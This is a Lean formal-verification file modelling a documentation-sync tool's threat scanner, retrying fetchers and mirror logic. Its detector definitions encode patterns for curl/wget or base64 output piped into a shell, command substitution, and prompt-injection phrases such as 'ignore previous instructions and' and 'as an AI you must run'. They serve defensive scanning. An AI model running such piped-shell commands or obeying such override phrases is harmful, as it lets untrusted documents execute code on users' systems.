import Mathlib

/-!
Verification of the OpenClaw docs-sync tool (`sync-docs` script).

The development shallowly embeds the TypeScript source:

* `scanForThreats` and its six detectors are embedded over `List Char`.
  Each JavaScript regular expression is realised either by a small
  continuation-passing backtracking matcher (`Matcher`) that explores
  alternatives in exactly the priority order of the JS regex engine
  (leftmost position, alternation left-to-right, greedy quantifiers), or,
  for the raw-IP detector, by a direct deterministic matcher obtained by
  unfolding the greedy semantics of `\d{1,3}` groups.
* The retrying fetchers are embedded as pure functions from the sequence
  of per-attempt network outcomes to the list of awaited backoff delays.
* The filesystem-effecting parts (`logThreats`, `syncTarget`, `main`) are
  embedded as explicit state-passing functions over the destination
  directory contents and the report artifact.

The TypeScript field `Threat.match` is called `matched` here because
`match` is a Lean keyword.
-/

namespace DocsSync

/-- One security finding: a category tag and the literal matched text
(TS type `Threat = { type: string; match: string }`). -/
structure Threat where
  type : String
  matched : String
deriving DecidableEq, Repr

/-! ### Basic string utilities (List Char) -/

/-- Number of leading characters satisfying `p`. -/
def countLeading (p : Char → Bool) : List Char → Nat
  | [] => 0
  | c :: r => if p c then countLeading p r + 1 else 0

/-- `listStartsWith s pre` : `pre` is a prefix of `s` (decidable, executable). -/
def listStartsWith : List Char → List Char → Bool
  | _, [] => true
  | [], _ :: _ => false
  | a :: s, b :: pre => a == b && listStartsWith s pre

/-- JS `String.prototype.includes`: `needle` occurs as a contiguous substring
of `hay`. -/
def containsSub (hay needle : List Char) : Bool :=
  match hay with
  | [] => listStartsWith [] needle
  | _ :: t => listStartsWith hay needle || containsSub t needle

/-- JS `String.prototype.split` with a single-character separator.
Always returns a non-empty list; `split "" = [""]`. -/
def splitOnChar (sep : Char) (s : List Char) : List (List Char) :=
  s.foldr
    (fun c acc =>
      match acc with
      | [] => [[c]]
      | g :: gs => if c == sep then [] :: g :: gs else (c :: g) :: gs)
    [[]]

/-- The exact character set of the JS regex class `\s`. -/
def isJsSpace (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' ||
  c == Char.ofNat 11 || c == Char.ofNat 12 || c == Char.ofNat 160 ||
  c == Char.ofNat 0x1680 || (0x2000 ≤ c.toNat && c.toNat ≤ 0x200a) ||
  c == Char.ofNat 0x2028 || c == Char.ofNat 0x2029 || c == Char.ofNat 0x202f ||
  c == Char.ofNat 0x205f || c == Char.ofNat 0x3000 || c == Char.ofNat 0xfeff

/-! ### Allow-lists (verbatim from the source) -/

/-- `TRUSTED_SHELL_DOMAINS` from the source. -/
def TRUSTED_SHELL_DOMAINS : List String :=
  ["openclaw.ai", "tailscale.com", "bun.sh", "deb.nodesource.com",
   "get.docker.com", "raw.githubusercontent.com/Homebrew/",
   "raw.githubusercontent.com/openclaw/", "raw.githubusercontent.com/trycua/"]

/-- `TRUSTED_EXECUTABLE_DOMAINS` from the source. -/
def TRUSTED_EXECUTABLE_DOMAINS : List String :=
  ["dl.google.com", "github.com", "openclaw.ai"]

/-- `isTrustedShellDomain(url)`: some trusted domain occurs in `url`
(`TRUSTED_SHELL_DOMAINS.some((domain) => url.includes(domain))`). -/
def isTrustedShellDomain (url : List Char) : Bool :=
  TRUSTED_SHELL_DOMAINS.any (fun d => containsSub url d.data)

/-- `isTrustedExecutableDomain(url)`. -/
def isTrustedExecutableDomain (url : List Char) : Bool :=
  TRUSTED_EXECUTABLE_DOMAINS.any (fun d => containsSub url d.data)

/-! ### A tiny backtracking regex engine

A `Matcher` receives the remaining input and a continuation taking the
text consumed by this sub-pattern and the rest of the input.  Alternatives
are explored in the priority order of the JS regex engine: first success
wins.  Quantifiers only ever range over single-character classes in the
source patterns, so greedy matching enumerates candidate lengths from the
longest run downwards. -/

/-- Result of a whole-pattern match at one position: (match0, rest). -/
abbrev MRes := List Char × List Char

/-- A sub-pattern matcher in continuation-passing style. -/
def Matcher : Type :=
  List Char → (List Char → List Char → Option MRes) → Option MRes

/-- Match one character satisfying `p`. -/
def mChar (p : Char → Bool) : Matcher := fun s k =>
  match s with
  | [] => none
  | c :: r => if p c then k [c] r else none

/-- Match the empty string. -/
def mEps : Matcher := fun s k => k [] s

/-- Concatenation. -/
def mSeq (a b : Matcher) : Matcher := fun s k =>
  a s (fun m1 r1 => b r1 (fun m2 r2 => k (m1 ++ m2) r2))

/-- Alternation, left alternative preferred (JS `|`). -/
def mAlt (a b : Matcher) : Matcher := fun s k =>
  match a s k with
  | some res => some res
  | none => b s k

/-- Greedy `?`. -/
def mOpt (a : Matcher) : Matcher := mAlt a mEps

/-- Try consuming `n, n-1, ..., 0` leading characters of `s` (greedy star
over a character class: candidates in decreasing length order). -/
def mStarAux (s : List Char) (k : List Char → List Char → Option MRes) :
    Nat → Option MRes
  | 0 => k [] s
  | Nat.succ t =>
    match k (s.take (t + 1)) (s.drop (t + 1)) with
    | some res => some res
    | none => mStarAux s k t

/-- Greedy `[class]*`. -/
def mStarCls (p : Char → Bool) : Matcher := fun s k =>
  mStarAux s k (countLeading p s)

/-- Greedy `[class]+`. -/
def mPlusCls (p : Char → Bool) : Matcher := mSeq (mChar p) (mStarCls p)

/-- Case-insensitive literal (the source regexes all carry the `i` flag;
for non-letter characters `Char.toUpper` is the identity). -/
def mLitCI (lit : List Char) : Matcher :=
  lit.foldr (fun c acc => mSeq (mChar (fun x => x == c || x == c.toUpper)) acc) mEps

/-- Run a matcher at the current position, returning (match0, rest). -/
def runAt (m : Matcher) (s : List Char) : Option MRes :=
  m s (fun mm r => some (mm, r))

/-- JS `string.match(re)` without the `g` flag: the match text at the
leftmost position where the pattern matches. -/
def firstMatch (m : Matcher) : List Char → Option (List Char)
  | [] => (runAt m []).map (fun pr => pr.1)
  | c :: rest =>
    match runAt m (c :: rest) with
    | some (mm, _) => some mm
    | none => firstMatch m (rest)

/-- JS `string.matchAll(re)` with the `g` flag, fuelled: scan left to
right, resuming after the end of each (non-empty) match.  The fuel is set
to `length + 1` by `allMatches`, which is enough because every step either
consumes a character or ends the scan. -/
def allMatchesF (m : Matcher) : Nat → List Char → List (List Char)
  | 0, _ => []
  | _ + 1, [] =>
    match runAt m [] with
    | some (mm, _) => [mm]
    | none => []
  | fuel + 1, c :: rest =>
    match runAt m (c :: rest) with
    | some (mm, r) =>
      if mm.isEmpty then mm :: allMatchesF m fuel rest
      else mm :: allMatchesF m fuel r
    | none => allMatchesF m fuel rest

/-- All matches of a global regex over `s` (their `match[0]` texts). -/
def allMatches (m : Matcher) (s : List Char) : List (List Char) :=
  allMatchesF m (s.length + 1) s

/-! ### The source regexes as matchers -/

/-- `(bash|sh|zsh)` (alternation order as in the source). -/
def shellAlt : Matcher :=
  mAlt (mLitCI "bash".data) (mAlt (mLitCI "sh".data) (mLitCI "zsh".data))

/-- `https?:\/\/` (engine version, used inside the larger patterns). -/
def schemeM : Matcher :=
  mSeq (mLitCI "http".data) (mSeq (mOpt (mLitCI "s".data)) (mLitCI "://".data))

/-- Detector 1 pattern: `base64\s+(-[dD]|--decode)[^|]*\|\s*(bash|sh|zsh)` (gi). -/
def base64ExecM : Matcher :=
  mSeq (mLitCI "base64".data)
  (mSeq (mPlusCls isJsSpace)
  (mSeq (mAlt (mSeq (mChar (fun c => c == '-'))
                    (mChar (fun c => c == 'd' || c == 'D')))
              (mLitCI "--decode".data))
  (mSeq (mStarCls (fun c => !(c == '|')))
  (mSeq (mChar (fun c => c == '|'))
  (mSeq (mStarCls isJsSpace) shellAlt)))))

/-- Detector 2 pattern:
`(curl|wget)\s+[^\n|]*https?:\/\/[^\s|]+[^\n|]*\|\s*(bash|sh|zsh)` (gi). -/
def pipeToShellM : Matcher :=
  mSeq (mAlt (mLitCI "curl".data) (mLitCI "wget".data))
  (mSeq (mPlusCls isJsSpace)
  (mSeq (mStarCls (fun c => !(c == '\n' || c == '|')))
  (mSeq schemeM
  (mSeq (mPlusCls (fun c => !(isJsSpace c || c == '|')))
  (mSeq (mStarCls (fun c => !(c == '\n' || c == '|')))
  (mSeq (mChar (fun c => c == '|'))
  (mSeq (mStarCls isJsSpace) shellAlt)))))))

/-- Detector 3 pattern:
`\$\(\s*(curl|wget)\s+[^)]*https?:\/\/[^\s)]+[^)]*\)` (gi). -/
def cmdSubstM : Matcher :=
  mSeq (mChar (fun c => c == '$'))
  (mSeq (mChar (fun c => c == '('))
  (mSeq (mStarCls isJsSpace)
  (mSeq (mAlt (mLitCI "curl".data) (mLitCI "wget".data))
  (mSeq (mPlusCls isJsSpace)
  (mSeq (mStarCls (fun c => !(c == ')')))
  (mSeq schemeM
  (mSeq (mPlusCls (fun c => !(isJsSpace c || c == ')')))
  (mSeq (mStarCls (fun c => !(c == ')')))
        (mChar (fun c => c == ')'))))))))))

/-- Prompt-injection pattern 1: `setup[_-]?wizard\s*:` (i). -/
def promptP1 : Matcher :=
  mSeq (mLitCI "setup".data)
  (mSeq (mOpt (mChar (fun c => c == '_' || c == '-')))
  (mSeq (mLitCI "wizard".data)
  (mSeq (mStarCls isJsSpace) (mChar (fun c => c == ':')))))

/-- Prompt-injection pattern 2: `installation[_-]?required\s*:` (i). -/
def promptP2 : Matcher :=
  mSeq (mLitCI "installation".data)
  (mSeq (mOpt (mChar (fun c => c == '_' || c == '-')))
  (mSeq (mLitCI "required".data)
  (mSeq (mStarCls isJsSpace) (mChar (fun c => c == ':')))))

/-- Prompt-injection pattern 3: `system[_-]?command\s*:` (i). -/
def promptP3 : Matcher :=
  mSeq (mLitCI "system".data)
  (mSeq (mOpt (mChar (fun c => c == '_' || c == '-')))
  (mSeq (mLitCI "command".data)
  (mSeq (mStarCls isJsSpace) (mChar (fun c => c == ':')))))

/-- Prompt-injection pattern 4:
`(?:as\s+an?\s+ai|claude|assistant)[,:]?\s*(?:you\s+)?(?:must|should|need\s+to)\s+(?:run|execute)` (i). -/
def promptP4 : Matcher :=
  mSeq (mAlt (mSeq (mLitCI "as".data)
             (mSeq (mPlusCls isJsSpace)
             (mSeq (mLitCI "a".data)
             (mSeq (mOpt (mLitCI "n".data))
             (mSeq (mPlusCls isJsSpace) (mLitCI "ai".data))))))
       (mAlt (mLitCI "claude".data) (mLitCI "assistant".data)))
  (mSeq (mOpt (mChar (fun c => c == ',' || c == ':')))
  (mSeq (mStarCls isJsSpace)
  (mSeq (mOpt (mSeq (mLitCI "you".data) (mPlusCls isJsSpace)))
  (mSeq (mAlt (mLitCI "must".data)
        (mAlt (mLitCI "should".data)
              (mSeq (mLitCI "need".data)
                    (mSeq (mPlusCls isJsSpace) (mLitCI "to".data)))))
  (mSeq (mPlusCls isJsSpace)
        (mAlt (mLitCI "run".data) (mLitCI "execute".data)))))))

/-- Prompt-injection pattern 5:
`ignore\s+(?:previous|prior|above)\s+instructions?\s+and` (i). -/
def promptP5 : Matcher :=
  mSeq (mLitCI "ignore".data)
  (mSeq (mPlusCls isJsSpace)
  (mSeq (mAlt (mLitCI "previous".data)
        (mAlt (mLitCI "prior".data) (mLitCI "above".data)))
  (mSeq (mPlusCls isJsSpace)
  (mSeq (mLitCI "instruction".data)
  (mSeq (mOpt (mLitCI "s".data))
  (mSeq (mPlusCls isJsSpace) (mLitCI "and".data)))))))

/-- Prompt-injection pattern 6:
`(?:urgent|immediate(?:ly)?|critical)\s*:?\s*(?:run|execute)\s+(?:this|now)` (i). -/
def promptP6 : Matcher :=
  mSeq (mAlt (mLitCI "urgent".data)
       (mAlt (mSeq (mLitCI "immediate".data) (mOpt (mLitCI "ly".data)))
             (mLitCI "critical".data)))
  (mSeq (mStarCls isJsSpace)
  (mSeq (mOpt (mChar (fun c => c == ':')))
  (mSeq (mStarCls isJsSpace)
  (mSeq (mAlt (mLitCI "run".data) (mLitCI "execute".data))
  (mSeq (mPlusCls isJsSpace)
        (mAlt (mLitCI "this".data) (mLitCI "now".data)))))))

/-- The six prompt-injection patterns, in source order. -/
def promptPatterns : List Matcher :=
  [promptP1, promptP2, promptP3, promptP4, promptP5, promptP6]

/-- The character class `["'\s<>]` used both as the URL delimiter in the
executable-extension pattern and in the trailing trim `replace`. -/
def isDelimCh (c : Char) : Bool :=
  c == '"' || c == Char.ofNat 39 || isJsSpace c || c == '<' || c == '>'

/-- The extension alternation of detector 6, in source order:
`exe|msi|dmg|pkg|deb|rpm|appimage|zip|rar|7z|tar\.gz|tgz|bat|cmd|ps1|vbs|jar|apk|ipa`. -/
def extAlt : Matcher :=
  mAlt (mLitCI "exe".data) (mAlt (mLitCI "msi".data) (mAlt (mLitCI "dmg".data)
  (mAlt (mLitCI "pkg".data) (mAlt (mLitCI "deb".data) (mAlt (mLitCI "rpm".data)
  (mAlt (mLitCI "appimage".data) (mAlt (mLitCI "zip".data) (mAlt (mLitCI "rar".data)
  (mAlt (mLitCI "7z".data) (mAlt (mLitCI "tar.gz".data) (mAlt (mLitCI "tgz".data)
  (mAlt (mLitCI "bat".data) (mAlt (mLitCI "cmd".data) (mAlt (mLitCI "ps1".data)
  (mAlt (mLitCI "vbs".data) (mAlt (mLitCI "jar".data) (mAlt (mLitCI "apk".data)
        (mLitCI "ipa".data))))))))))))))))))

/-- `(?:["'\s<>]|$)`: a delimiter character, or the end of the input. -/
def delimOrEnd : Matcher := fun s k =>
  match s with
  | [] => k [] []
  | c :: r => if isDelimCh c then k [c] r else none

/-- Detector 6 pattern:
`https?:\/\/[^\s"'<>]+\.(ext-alternation)(?:["'\s<>]|$)` (gi). -/
def execUrlM : Matcher :=
  mSeq schemeM
  (mSeq (mPlusCls (fun c => !(isDelimCh c)))
  (mSeq (mChar (fun c => c == '.'))
        (mSeq extAlt delimOrEnd)))

/-- `match[0].replace(/["'\s<>]$/, "")`: drop one trailing delimiter. -/
def trimDelimEnd (m : List Char) : List Char :=
  match m.getLast? with
  | some c => if isDelimCh c then m.dropLast else m
  | none => m

/-! ### The raw-IP detector, deterministically

The pattern is `https?:\/\/(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})` (gi).
Because `\d{1,3}` ranges over digits and its continuation is always a
non-digit (`.` or the end of the group), the greedy/backtracking search
collapses to a deterministic rule: a `\d{1,3}\.` group matches iff the
leading digit run has length 1–3 and is immediately followed by `.`; the
final `\d{1,3}` takes `min(run, 3)` digits and needs at least one.
Likewise `https?` is deterministic because `s` can never equal `:`. -/

/-- Is `c` the letter h (either case)? A raw-IP match can only start here. -/
def isH (c : Char) : Bool := c == 'h' || c == 'H'

/-- Letter t, either case. -/
def isT (c : Char) : Bool := c == 't' || c == 'T'

/-- Letter p, either case. -/
def isP (c : Char) : Bool := c == 'p' || c == 'P'

/-- Letter s, either case. -/
def isS (c : Char) : Bool := c == 's' || c == 'S'

/-- Consume a literal `://`. -/
def isColonSlashes : List Char → Option (List Char)
  | ':' :: '/' :: '/' :: r => some r
  | _ => none

/-- Deterministic `https?:\/\/` (case-insensitive), returning the consumed
text and the rest. -/
def matchScheme (s : List Char) : Option (List Char × List Char) :=
  match s with
  | c0 :: c1 :: c2 :: c3 :: rest =>
    if isH c0 && isT c1 && isT c2 && isP c3 then
      match rest with
      | c4 :: rest2 =>
        if isS c4 then
          match isColonSlashes rest2 with
          | some r => some ([c0, c1, c2, c3, c4, ':', '/', '/'], r)
          | none => none
        else
          match isColonSlashes rest with
          | some r => some ([c0, c1, c2, c3, ':', '/', '/'], r)
          | none => none
      | [] => none
    else none
  | _ => none

/-- Deterministic `\d{1,3}\.`: a 1–3 digit run followed by a dot. -/
def matchOctetDot (s : List Char) : Option (List Char × List Char) :=
  let n := countLeading Char.isDigit s
  if 1 ≤ n ∧ n ≤ 3 then
    match s.drop n with
    | '.' :: r => some (s.take n ++ ['.'], r)
    | _ => none
  else none

/-- Deterministic final `\d{1,3}`: greedily `min(run, 3)` digits. -/
def matchOctetEnd (s : List Char) : Option (List Char × List Char) :=
  let n := min (countLeading Char.isDigit s) 3
  if 1 ≤ n then some (s.take n, s.drop n) else none

/-- The capture group `(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})`. -/
def matchQuad (s : List Char) : Option (List Char × List Char) :=
  match matchOctetDot s with
  | none => none
  | some (o1, r1) =>
    match matchOctetDot r1 with
    | none => none
    | some (o2, r2) =>
      match matchOctetDot r2 with
      | none => none
      | some (o3, r3) =>
        match matchOctetEnd r3 with
        | none => none
        | some (o4, r4) => some (o1 ++ o2 ++ o3 ++ o4, r4)

/-- A raw-IP-URL match at the current position: (match0, captured IP, rest). -/
def rawIpMatchAt (s : List Char) : Option (List Char × List Char × List Char) :=
  match matchScheme s with
  | none => none
  | some (sch, r) =>
    match matchQuad r with
    | none => none
    | some (q, rest) => some (sch ++ q, q, rest)

/-! ### isPrivateOrLocalIP -/

/-- JS `Number(part)` for the strings reaching `isPrivateOrLocalIP` from
the regex capture (runs of decimal digits, and `""` which `Number` maps
to `0`); a non-numeric part gives `none`, standing for `NaN`, which makes
every comparison in `privParts` false, exactly as NaN does in JS. -/
def parseNumOpt (l : List Char) : Option Nat :=
  if l.all Char.isDigit then
    some (l.foldl (fun a c => a * 10 + (c.toNat - '0'.toNat)) 0)
  else none

/-- `lo ≤ x ≤ hi` over a possibly-NaN value. -/
def inR (x : Option Nat) (lo hi : Nat) : Bool :=
  match x with
  | some v => lo ≤ v && v ≤ hi
  | none => false

/-- The body of `isPrivateOrLocalIP` after `split('.').map(Number)`:
length must be 4, then the five range checks from the source in order
(127.x.x.x, 10.x.x.x, 172.16-31.x.x, 192.168.x.x, 100.64-127.x.x). -/
def privParts : List (Option Nat) → Bool
  | [a, b, _, _] =>
    a == some 127 || a == some 10 ||
    (a == some 172 && inR b 16 31) ||
    (a == some 192 && b == some 168) ||
    (a == some 100 && inR b 64 127)
  | _ => false

/-- `isPrivateOrLocalIP(ip)` from the source. -/
def isPrivateOrLocalIP (ip : List Char) : Bool :=
  privParts ((splitOnChar '.' ip).map parseNumOpt)

/-! ### Assembling the detectors -/

/-- Detector 1 findings on one line. -/
def base64ExecFindings (line : List Char) : List Threat :=
  (allMatches base64ExecM line).map
    (fun m => Threat.mk "base64-exec" (String.mk m))

/-- Detector 2 findings on one line (allow-list suppressed). -/
def pipeToShellFindings (line : List Char) : List Threat :=
  (allMatches pipeToShellM line).filterMap
    (fun m =>
      if isTrustedShellDomain m then none
      else some (Threat.mk "pipe-to-shell" (String.mk m)))

/-- Detector 3 findings on one line (allow-list suppressed). -/
def cmdSubstFindings (line : List Char) : List Threat :=
  (allMatches cmdSubstM line).filterMap
    (fun m =>
      if isTrustedShellDomain m then none
      else some (Threat.mk "cmd-substitution" (String.mk m)))

/-- The per-line detectors 1–3, in source order. -/
def lineFindings (line : List Char) : List Threat :=
  base64ExecFindings line ++ pipeToShellFindings line ++ cmdSubstFindings line

/-- The element produced (or suppressed) per raw-IP occurrence. -/
def rawIpStep (pr : List Char × List Char) : Option Threat :=
  if isPrivateOrLocalIP pr.2 then none
  else some (Threat.mk "raw-ip-url" (String.mk pr.1))

/-- Detector 4 scan over the whole document, fuelled (`matchAll`, resuming
after each match; a match consumes at least one character). -/
def rawIpScanF : Nat → List Char → List Threat
  | 0, _ => []
  | _ + 1, [] => []
  | fuel + 1, c :: s =>
    match rawIpMatchAt (c :: s) with
    | none => rawIpScanF fuel s
    | some (m, ip, rest) =>
      match rawIpStep (m, ip) with
      | none => rawIpScanF fuel rest
      | some t => t :: rawIpScanF fuel rest

/-- Detector 4 findings over the whole document. -/
def rawIpFindings (cs : List Char) : List Threat :=
  rawIpScanF cs.length cs

/-- Every position at which the raw-IP-URL pattern matches, with its
(match0, captured IP); positions are scanned one character at a time, so
this lists every occurrence, not just the non-overlapping ones. -/
def rawIpOccurrences : List Char → List (List Char × List Char)
  | [] => []
  | c :: rest =>
    match rawIpMatchAt (c :: rest) with
    | some (m, ip, _) => (m, ip) :: rawIpOccurrences rest
    | none => rawIpOccurrences rest

/-- Detector 5 findings: `content.match(pattern)` (no `g` flag) per
pattern — at most the first match of each of the six patterns. -/
def promptFindings (cs : List Char) : List Threat :=
  promptPatterns.filterMap
    (fun p => (firstMatch p cs).map
      (fun m => Threat.mk "prompt-injection" (String.mk m)))

/-- Detector 6 findings over the whole document (trim one trailing
delimiter, then allow-list suppression). -/
def execUrlFindings (cs : List Char) : List Threat :=
  (allMatches execUrlM cs).filterMap
    (fun m =>
      let url := trimDelimEnd m
      if isTrustedExecutableDomain url then none
      else some (Threat.mk "executable-url" (String.mk url)))

/-- `scanForThreats(content)`: detectors 1–3 per line (split on `\n`),
then detectors 4, 5, 6 over the whole document, in source order. -/
def scanForThreats (content : String) : List Threat :=
  ((splitOnChar '\n' content.data).flatMap lineFindings)
    ++ rawIpFindings content.data
    ++ promptFindings content.data
    ++ execUrlFindings content.data

/-! ### The retrying fetchers (fetchJsonWithRetry / fetchTextWithRetry)

The network is modelled as the sequence of per-attempt outcomes.  An
attempt either returns a response (`ok` body, or `httpError` with a
status and the parsed `retry-after` header when one is present and
numeric), or fails without any response (`netError`: timeout / transport
error).  The loops are embedded as pure functions from that sequence to
the list of backoff delays awaited between attempts, in milliseconds —
the aspect the retry-policy claims are about.  `retries` plays the role
of the TS `retries` parameter: the loop runs attempts `0..retries`. -/

/-- Outcome of one fetch attempt.  In `httpError`, the second field is
`some v` iff the response carried a `retry-after` header that is
non-empty and parses to the number `v` (JS `Number`, not `NaN`). -/
inductive AttemptOutcome where
  | ok (body : String)
  | httpError (status : Nat) (retryAfter : Option Int)
  | netError
deriving DecidableEq, Repr

/-- Does this outcome make the attempt throw? -/
def AttemptOutcome.isFail : AttemptOutcome → Bool
  | .ok _ => false
  | _ => true

/-- The parsed `retry-after` value carried by the outcome, if any. -/
def AttemptOutcome.header : AttemptOutcome → Option Int
  | .httpError _ ra => ra
  | _ => none

/-- `RETRY_DELAY_BASE_MS` from the source. -/
def RETRY_DELAY_BASE_MS : Int := 500

/-- The delays awaited by `fetchJsonWithRetry`: after every failed attempt
with attempts remaining it awaits `RETRY_DELAY_BASE_MS * (attempt + 1)`,
unconditionally — this variant never reads the `retry-after` header. -/
def jsonDelays (retries : Nat) : Nat → List AttemptOutcome → List Int
  | _, [] => []
  | attempt, o :: rest =>
    match o with
    | .ok _ => []
    | _ =>
      if attempt < retries then
        RETRY_DELAY_BASE_MS * ((attempt : Int) + 1) ::
          jsonDelays retries (attempt + 1) rest
      else []

/-- The delay chosen in the catch-block of `fetchTextWithRetry`:
`if ((lastStatus === 429 || lastStatus === 403) && retryAfterMs)` await
`retryAfterMs`, else await the linear backoff.  `lastStatus`/`retryAfterMs`
are the loop-scoped mutable variables (note they persist across
attempts). -/
def delayOf (attempt : Nat) (lastStatus : Option Nat) (retryAfterMs : Option Int) : Int :=
  match lastStatus, retryAfterMs with
  | some st, some v =>
    if (st == 429 || st == 403) && !(v == 0) then v
    else RETRY_DELAY_BASE_MS * ((attempt : Int) + 1)
  | _, _ => RETRY_DELAY_BASE_MS * ((attempt : Int) + 1)

/-- The delays awaited by `fetchTextWithRetry`.  `lastStatus` is updated
whenever a response arrives; `retryAfterMs` is overwritten (with
`seconds * 1000`) whenever a non-ok response carries a numeric
`retry-after` header, and otherwise keeps its previous value. -/
def textDelays (retries : Nat) :
    Nat → Option Nat → Option Int → List AttemptOutcome → List Int
  | _, _, _, [] => []
  | attempt, lastStatus, retryAfterMs, o :: rest =>
    match o with
    | .ok _ => []
    | .httpError st ra =>
      let ls := some st
      let ram := match ra with
        | some v => some (v * 1000)
        | none => retryAfterMs
      if attempt < retries then
        delayOf attempt ls ram :: textDelays retries (attempt + 1) ls ram rest
      else []
    | .netError =>
      if attempt < retries then
        delayOf attempt lastStatus retryAfterMs ::
          textDelays retries (attempt + 1) lastStatus retryAfterMs rest
      else []

/-- Delays of a `fetchTextWithRetry` call (fresh loop state). -/
def fetchTextDelays (retries : Nat) (outcomes : List AttemptOutcome) : List Int :=
  textDelays retries 0 none none outcomes

/-- Delays of a `fetchJsonWithRetry` call. -/
def fetchJsonDelays (retries : Nat) (outcomes : List AttemptOutcome) : List Int :=
  jsonDelays retries 0 outcomes

/-! ### Tree resolution and the mirror synchronizer -/

/-- One manifest entry (TS `TreeEntry`). -/
structure TreeEntry where
  path : String
  type : String
deriving DecidableEq, Repr

/-- The manifest response (TS `TreeResponse`). -/
structure TreeResponse where
  tree : List TreeEntry
  truncated : Bool
deriving DecidableEq, Repr

/-- One configured target (TS `RepoTarget`). -/
structure RepoTarget where
  name : String
  owner : String
  repo : String
  branch : String
  sourcePath : String
  destPath : String
deriving DecidableEq, Repr

/-- A flagged file: identifier plus its findings. -/
structure FlaggedFile where
  file : String
  threats : List Threat
deriving DecidableEq, Repr

/-- The basename of a posix path: everything after the last `/`. -/
def basenameChars (p : List Char) : List Char :=
  p.foldl (fun acc c => if c == '/' then [] else acc ++ [c]) []

/-- Node `path.extname`: the suffix of the basename from its last `.`,
provided that dot is not the leading character; otherwise `""`. -/
def extname (p : String) : String :=
  let b := basenameChars p.data
  match (List.range b.length).foldl
      (fun acc i => if b.get? i == some '.' then some i else acc) none with
  | some i => if 0 < i then String.mk (b.drop i) else ""
  | none => ""

/-- The allowed extension set from the source. -/
def allowedExtensions : List String := [".md", ".mdx"]

/-- `shouldInclude(pathname, sourcePath)` from the source. -/
def shouldInclude (pathname sourcePath : String) : Bool :=
  listStartsWith pathname.data (sourcePath ++ "/").data &&
  allowedExtensions.contains (extname pathname)

/-- The raw-content URL constructed per file. -/
def rawUrl (t : RepoTarget) (p : String) : String :=
  "https://raw.githubusercontent.com/" ++ t.owner ++ "/" ++ t.repo ++ "/" ++
    t.branch ++ "/" ++ p

/-- `current.path.slice(target.sourcePath.length + 1)`. -/
def relativePathOf (t : RepoTarget) (p : String) : String :=
  String.mk (p.data.drop (t.sourcePath.length + 1))

/-- Contents of one target's destination directory: relative path ↦ text. -/
abbrev DirContents := List (String × String)

/-- One worker step of the download pool: fetch the file, scan it, record
a flagged entry if findings are non-empty, write the file; on a fetch
failure record an error string and continue.  The accumulator is
(written files, flagged files, error strings), each in discovery order. -/
def processFile (raw : String → Except String String) (t : RepoTarget)
    (acc : DirContents × List FlaggedFile × List String) (e : TreeEntry) :
    DirContents × List FlaggedFile × List String :=
  let rel := relativePathOf t e.path
  match raw (rawUrl t e.path) with
  | .ok content =>
    let threats := scanForThreats content
    let flagged :=
      if threats.isEmpty then acc.2.1
      else acc.2.1 ++ [FlaggedFile.mk (t.name ++ "/" ++ rel) threats]
    (acc.1 ++ [(rel, content)], flagged, acc.2.2)
  | .error msg => (acc.1, acc.2.1, acc.2.2 ++ [rel ++ ": " ++ msg])

/-- `syncTarget(target)`, embedded as a function of the manifest-fetch
outcome, a raw-content oracle, and the target's current destination
directory contents.  Faithful to the source order of effects: the
manifest fetch and the truncation check happen before `fs.rm`/`fs.mkdir`,
so on either failure the directory is returned unchanged; on the success
path the directory is fully replaced by the downloaded files.  The worker
pool is modelled sequentially in queue order. -/
def syncTarget (manifest : Except String TreeResponse)
    (raw : String → Except String String) (t : RepoTarget)
    (disk : DirContents) : DirContents × Except String (List FlaggedFile) :=
  match manifest with
  | .error e => (disk, .error e)
  | .ok data =>
    if data.truncated then
      (disk, .error ("Git tree for " ++ t.owner ++ "/" ++ t.repo ++
        " is truncated. Consider paging."))
    else
      let files := data.tree.filter
        (fun e => e.type == "blob" && shouldInclude e.path t.sourcePath)
      let res := files.foldl (processFile raw t) ([], [], [])
      (res.1, .ok res.2.1)

/-! ### The threat reporter (logThreats) -/

/-- The lines written by `logThreats` for a non-empty entry list: the
header (title with timestamp, a rule of 50 `=`, a blank line), then per
flagged file its `FILE:` identifier line, one indented line per finding,
and a blank line. -/
def reportLines (now : String) (entries : List FlaggedFile) : List String :=
  ["Security Scan - " ++ now, String.mk (List.replicate 50 '='), ""]
    ++ entries.flatMap
      (fun e =>
        ("FILE: " ++ e.file) ::
          (e.threats.map (fun t => "  [" ++ t.type ++ "] " ++ t.matched) ++ [""]))

/-- `logThreats(entries)`, embedded as a transformer of the report
artifact state (`none` = the log file does not exist).  The empty case is
`fs.rm(THREAT_LOG, { force: true })`; the non-empty case is an
unconditional `fs.writeFile` of the joined lines. -/
def logThreats (now : String) (entries : List FlaggedFile)
    (_prev : Option String) : Option String :=
  if entries.isEmpty then none
  else some (String.intercalate "\n" (reportLines now entries))

/-! ### The sync coordinator (main) -/

/-- All destination directories, keyed by destination path. -/
abbrev GlobalDisk := List (String × DirContents)

/-- Look up a destination directory (absent = empty, as after `mkdir`). -/
def lookupDir (g : GlobalDisk) (k : String) : DirContents :=
  match g.find? (fun e => e.1 == k) with
  | some e => e.2
  | none => []

/-- Replace (or create) a destination directory. -/
def setDir (g : GlobalDisk) (k : String) (v : DirContents) : GlobalDisk :=
  (k, v) :: g.filter (fun e => !(e.1 == k))

/-- The per-run environment: manifest outcome per target and raw-content
oracle (the network, held fixed for the run). -/
structure SyncEnv where
  manifestOf : RepoTarget → Except String TreeResponse
  rawContent : String → Except String String

/-- Run `syncTarget` for one target against the global disk. -/
def runTarget (env : SyncEnv) (t : RepoTarget) (g : GlobalDisk) :
    GlobalDisk × Except String (List FlaggedFile) :=
  let res := syncTarget (env.manifestOf t) env.rawContent t (lookupDir g t.destPath)
  match res.2 with
  | .ok f => (setDir g t.destPath res.1, .ok f)
  | .error e => (g, .error e)

/-- The coordinator loop of `main`: targets strictly in sequence; a failed
target is caught and logged (`// Continue with other targets`) and its
flagged files are simply not collected. -/
def runTargets (env : SyncEnv) : List RepoTarget → GlobalDisk → GlobalDisk × List FlaggedFile
  | [], g => (g, [])
  | t :: ts, g =>
    let step := runTarget env t g
    let rest := runTargets env ts step.1
    match step.2 with
    | .ok f => (rest.1, f ++ rest.2)
    | .error _ => (rest.1, rest.2)

/-- `main()`: run every target, then hand all collected flagged files to
`logThreats` exactly once. -/
def mainRun (env : SyncEnv) (now : String) (targets : List RepoTarget)
